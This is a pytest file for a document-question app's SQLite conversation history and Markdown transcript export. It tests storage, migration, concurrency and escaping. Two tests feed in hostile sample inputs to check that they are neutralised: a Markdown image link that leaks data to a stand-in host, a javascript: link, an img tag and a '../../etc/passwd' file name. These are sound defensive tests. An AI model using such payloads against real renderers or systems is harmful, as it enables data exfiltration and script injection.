"""The conversations store (rag.conversations.history) on a real SQLite file, and its Markdown
export (rag.conversations.transcript)."""

from __future__ import annotations

import itertools
import json
import re
import sqlite3
import threading
from dataclasses import asdict
from pathlib import Path

import pytest

from rag.conversations.answer_json import dump_answer, load_answer
from rag.conversations.history import Conversations, title_from
from rag.conversations.transcript import download_name, to_markdown
from rag.errors import StoreError
from rag.types import Answer, Citation, Hit
from ui.markdown import neutralize_markdown


def hit(n: int, *, source: str = "/docs/R-intro.pdf", page: int = 17, **kw: object) -> Hit:
    return Hit(
        chunk_id=f"c{n}",
        text=f"passage {n} text",
        source=source,
        page=page,
        score=1.0 / n,
        start_index=100 * n,
        similarity=0.5,
        **kw,  # type: ignore[arg-type]
    )


def answer_citing(*chunks: int, text: str = "", hits: tuple[Hit, ...] = ()) -> Answer:
    hits = hits or tuple(hit(n) for n in range(1, 5))
    by_id = {h.chunk_id: (i, h) for i, h in enumerate(hits, start=1)}
    citations = tuple(
        Citation(n=by_id[f"c{c}"][0], hit=by_id[f"c{c}"][1], quotes=(f"Claim {c}",)) for c in chunks
    )
    return Answer(
        text=text or " ".join(f"Claim {c} [{by_id[f'c{c}'][0]}]." for c in chunks),
        mode="extractive",
        citations=citations,
        hits=hits,
        timings={"retrieval_ms": 12.5, "total_ms": 40.0},
        metadata={"notice": "no LLM", "abstained": False, "best_score": 0.61, "dropped": ["c9"]},
    )


class Clock:
    """Seconds that tick by one on every call: orderings that do not depend on speed."""

    def __init__(self) -> None:
        self.ticks = itertools.count(1_700_000_000)

    def __call__(self) -> float:
        return float(next(self.ticks))


@pytest.fixture
def store(tmp_path: Path) -> Conversations:
    return Conversations(tmp_path / "c.sqlite3", collection="docs", clock=Clock())


def test_an_answer_comes_back_as_the_same_dataclasses(store: Conversations) -> None:
    answer = answer_citing(2, 1)
    deck = hit(3, source="/docs/deck.pptx", page=0, locator="slide 3", ocr=True)
    answer = Answer(
        answer.text,
        answer.mode,
        # a passage the answer does not hold among its hits is kept with its citation
        (*answer.citations, Citation(3, deck, ("Revenue grew.",)), Citation(4, hit(9))),
        (*answer.hits[:2], deck),
        answer.timings,
        answer.metadata,
    )
    conversation, question = store.start("How are missing values represented?")
    stored = store.answer(conversation.id, answer)
    loaded = store.load(conversation.id)
    assert loaded is not None
    assert [m.role for m in loaded.messages] == ["user", "assistant"]
    assert loaded.messages[0] == question
    assert loaded.messages[1] == stored
    assert loaded.messages[1].answer == answer  # citations, hits, timings, metadata
    assert loaded.messages[1].answer.citations[0].quotes == ("Claim 2",)
    assert loaded.messages[1].answer.hits[2].place() == "slide 3, OCR"


def test_an_answer_stored_by_the_previous_version_reads_into_the_new_shape(
    store: Conversations,
) -> None:
    """Citations were flat fields, and an extractive answer's quotes were only in its text:
    the hit is found by chunk id among the answer's hits (made from the flat fields where
    it is not there), the quotes read from the text once; an LLM's answer quotes nothing."""
    place = {"source": "/docs/R-intro.pdf", "page": 17, "locator": "", "ocr": False}
    old = {
        "text": "*Missing values:* NA marks a missing value [2].\n\nUse is.na() to test [1]."
        "\n\nA long one, clipped … [2].\n\n*Slides:* Revenue grew [3]!",
        "mode": "extractive",
        "citations": [
            {"n": 2, "chunk_id": "c2", **place},
            {"n": 1, "chunk_id": "c1", **place},
            {"n": 3, "chunk_id": "c7", "source": "/d/deck.pptx", "page": 0,
             "locator": "slide 3", "ocr": True},
        ],
        "hits": [asdict(hit(1)), asdict(hit(2))],
        "timings": {"total_ms": 40.0},
        "metadata": {"abstained": False},
    }  # fmt: skip
    conversation, _ = store.start("How are missing values represented?")
    store.answer(conversation.id, answer_citing(1))
    with sqlite3.connect(store.path) as db:
        db.execute("UPDATE messages SET answer = ? WHERE role = 'assistant'", (json.dumps(old),))
    loaded = store.load(conversation.id)
    assert loaded is not None and loaded.messages[1].answer is not None
    answer = loaded.messages[1].answer
    deck = Hit("c7", "", "/d/deck.pptx", 0, 0.0, locator="slide 3", ocr=True)
    assert answer.citations == (
        Citation(2, hit(2), ("NA marks a missing value", "A long one, clipped")),
        Citation(1, hit(1), ("Use is.na() to test",)),
        Citation(3, deck, ("Revenue grew",)),
    )
    assert answer.hits == (hit(1), hit(2)) and answer.text == old["text"]
    assert load_answer(dump_answer(answer)) == answer  # written again in the new shape
    llm = load_answer(json.dumps({**old, "mode": "llm"}))
    assert [c.quotes for c in llm.citations] == [(), (), ()]


def test_newest_first_by_last_activity_and_per_collection(tmp_path: Path) -> None:
    clock = Clock()
    store = Conversations(tmp_path / "c.sqlite3", collection="docs", clock=clock)
    other = Conversations(tmp_path / "c.sqlite3", collection="papers", clock=clock)
    first, _ = store.start("first question")
    second, _ = store.start("second question")
    theirs, _ = other.start("a question on papers")
    assert [c.title for c in store.list()] == ["second question", "first question"]
    store.ask(first.id, "a follow-up")
    assert [c.id for c in store.list()] == [first.id, second.id]
    assert [c.id for c in other.list()] == [theirs.id]
    assert store.load(theirs.id) is None  # held in another collection
    with pytest.raises(StoreError, match="not in collection 'docs'"):
        store.ask(theirs.id, "crossing over")


def test_rename_and_delete(store: Conversations) -> None:
    keep, _ = store.start("keep me")
    gone, _ = store.start("delete me")
    store.answer(gone.id, answer_citing(1))
    store.rename(keep.id, "  Missing   values\nin R  ")
    assert [c.title for c in store.list()] == ["delete me", "Missing values in R"]
    store.delete(gone.id)
    assert store.load(gone.id) is None
    assert [c.id for c in store.list()] == [keep.id]
    with sqlite3.connect(store.path) as db:  # its messages went with it
        assert db.execute("SELECT count(*) FROM messages").fetchone()[0] == 1
    with pytest.raises(StoreError, match="start a new conversation"):
        store.rename(gone.id, "too late")


def test_titles_are_one_short_line() -> None:
    assert title_from("  How do I\n\tread a file?  ") == "How do I read a file?"
    assert title_from("") == "Untitled"
    long = title_from("word " * 40)
    assert len(long) == 80 and long.endswith("…")


def test_a_failed_transaction_leaves_nothing(store: Conversations) -> None:
    conversation, _ = store.start("question")
    with pytest.raises(RuntimeError), store.write() as db:
        db.execute(
            "INSERT INTO messages (conversation_id, role, text, created_at)"
            " VALUES (?, 'assistant', 'half an answer', 0)",
            (conversation.id,),
        )
        raise RuntimeError("crash between the insert and the commit")
    loaded = store.load(conversation.id)
    assert loaded is not None and [m.role for m in loaded.messages] == ["user"]


def test_failures_are_kept_with_their_message(store: Conversations) -> None:
    conversation, _ = store.start("question")
    store.fail(conversation.id, "The LLM server at http://x did not answer.")
    loaded = store.load(conversation.id)
    assert loaded is not None
    assert loaded.messages[1].error == "The LLM server at http://x did not answer."
    assert loaded.messages[1].answer is None


def test_sessions_on_threads_write_at_once_without_loss(tmp_path: Path) -> None:
    path = tmp_path / "c.sqlite3"
    Conversations(path, collection="docs")
    errors: list[BaseException] = []

    def session(n: int) -> None:
        try:
            store = Conversations(path, collection="docs")
            conversation, _ = store.start(f"tab {n} question 0")
            store.answer(conversation.id, answer_citing(1))
            for i in range(1, 25):
                store.ask(conversation.id, f"tab {n} question {i}")
                store.answer(conversation.id, answer_citing(1, 2))
        except BaseException as exc:  # reported below
            errors.append(exc)

    threads = [threading.Thread(target=session, args=(n,)) for n in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    store = Conversations(path, collection="docs")
    conversations = store.list()
    assert len(conversations) == 4
    for c in conversations:
        loaded = store.load(c.id)
        assert loaded is not None
        assert [m.role for m in loaded.messages] == ["user", "assistant"] * 25
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_a_newer_schema_is_refused_with_the_fix(tmp_path: Path) -> None:
    path = tmp_path / "c.sqlite3"
    Conversations(path, collection="docs")
    with sqlite3.connect(path) as db:
        db.execute("UPDATE meta SET value = '99' WHERE key = 'schema_version'")
    with pytest.raises(StoreError, match="newer version of this app"):
        Conversations(path, collection="docs")


# -- the Markdown export ---------------------------------------------------------------


def test_markdown_numbers_citations_through_the_conversation(store: Conversations) -> None:
    conversation, _ = store.start("How are missing values represented?")
    store.answer(conversation.id, answer_citing(2, 1))  # [1] is c1, [2] is c2
    store.ask(conversation.id, "and how do I test for them?")
    deck = hit(5, source="/docs/deck.pptx", page=0, locator="slide 3")
    store.answer(
        conversation.id,
        Answer(
            text="Use is.na [2]; x[1] is indexing, [7] is no citation [1, 2].",
            mode="llm",
            citations=(
                Citation(1, deck),
                Citation(2, hit(2)),
            ),
            hits=(deck, hit(2)),
        ),
    )
    store.ask(conversation.id, "and then?")
    store.fail(conversation.id, "The LLM timed out.")
    loaded = store.load(conversation.id)
    assert loaded is not None
    text = to_markdown(loaded, escape=neutralize_markdown)
    assert text == (
        "# How are missing values represented?\n\n"
        "*Collection docs · started 2023-11-14 22:13 UTC*\n\n"
        "**Question:** How are missing values represented?\n\n"
        "**Answer:** Claim 2 [1]. Claim 1 [2].\n\n"
        "**Question:** and how do I test for them?\n\n"
        "**Answer:** Use is.na [1]; x\\[1\\] is indexing, \\[7\\] is no citation [3, 1].\n\n"
        "**Question:** and then?\n\n"
        "**Answer:** *(failed: The LLM timed out.)*\n\n"
        "## Sources\n\n"
        "- [1] R-intro.pdf, page 17\n"
        "- [2] R-intro.pdf, page 17\n"
        "- [3] deck.pptx, slide 3\n"
    )


def test_markdown_neutralises_untrusted_text(store: Conversations) -> None:
    hostile = "![x](http://evil.test/leak?d=1) <img src=x> # Title"
    evil = hit(1, source="/docs/[evil](javascript:alert(1)).md", page=0)
    conversation, _ = store.start(hostile)
    store.answer(
        conversation.id,
        Answer(
            text=f"{hostile} [1]",
            mode="llm",
            citations=(Citation(1, evil),),
            hits=(evil,),
        ),
    )
    loaded = store.load(conversation.id)
    assert loaded is not None
    text = to_markdown(loaded, escape=neutralize_markdown)
    assert re.search(r"(?<!\\)\]\(|(?<!\\)<img|(?<!\\)!\[|^# Title", text, re.M) is None
    assert "# \\!\\[x\\](`http://evil.test/leak?d=1`) \\<img src=x\\> # Title\n" in text
    assert "- [1] \\[evil\\](javascript:alert(1)).md\n" in text
    assert text.count("[1]") == 2  # the marker and its source line stay live


def test_download_names_are_plain(store: Conversations) -> None:
    conversation, _ = store.start("../../etc/passwd? Missing values: NA & NaN")
    assert download_name(conversation) == "etc-passwd-missing-values-na-nan.md"
    empty = store.create("???")
    assert download_name(empty) == "conversation.md"
